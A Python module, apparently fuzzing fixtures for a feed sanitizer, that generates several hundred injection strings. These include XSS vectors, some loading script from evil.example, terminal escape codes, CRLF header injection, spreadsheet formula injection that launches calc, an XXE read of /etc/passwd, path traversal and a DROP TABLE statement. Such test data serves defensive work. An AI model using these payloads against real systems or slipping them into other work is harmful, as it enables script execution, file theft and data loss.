"""What somebody might write into a feed to make a browser, a terminal, a spreadsheet or a reader do something."""

from __future__ import annotations

from itertools import product

_ELEMENTS = """
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src="x"/onerror="alert(1)">
<img src="javascript:alert(1)">
<img src=x:x onerror\u0009=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><input type=submit></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import'//evil.example/x.css';</style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0">x</p>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href=" jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://good.example/" onclick="alert(1)">x</a>
<a href="https://a:b@evil.example/">x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<div><a id=x name=getElementById>x</a></div>
<table background="javascript:alert(1)"><td>x</td></table>
<p><img src=//tracker.example/pixel.gif width=1 height=1>x</p>
""".strip().splitlines()
_AROUND = ("{}", '">{}', "</p></div>{}", "{}\u0000<", "&lt;{}")

# For browsers: 250 of them.
MARKUP = tuple(around.format(element) for element, around in product(_ELEMENTS, _AROUND))

_LINES = """
\u001b[2J\u001b[H
\u001b]0;title\u0007
\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\
\u009b31m
\u0007\u0008\u0008
\u202eevil
\u2066\u2067\u2069
\u200e\u202d
\ufffe\uffff
\u0085next
\u2028next\u2029
\r\nX-Injected: yes
\r\n\r\n<script>alert(1)</script>
%0d%0aSet-Cookie: a=b
\n\nThe Other Daily (Accra)
=HYPERLINK("https://evil.example/","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
\t=1+1
\r=1+1
"=1+1
a",=1+1
x";=1+1
]]>
--><!--
&amp;lt;&#0;&#x1b;
&xxe;
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
{{7*7}}${7*7}<%= 7*7 %>
{publisher}{wire}{0}
%s%n%x
../../../../etc/passwd
'; DROP TABLE articles; --
\ud800
\U000e0001\U000e0020
\u00ad\u200b\u200c
\\u001b[31m
\u0000
""".strip("\n").split("\n")
_PLACES = ("{}", "word {} word", "{}{}", "{}\u00e9", " {}")

# For terminals, spreadsheets, headers and readers.
TEXT = tuple(place.format(line, line) for line, place in product(_LINES, _PLACES))
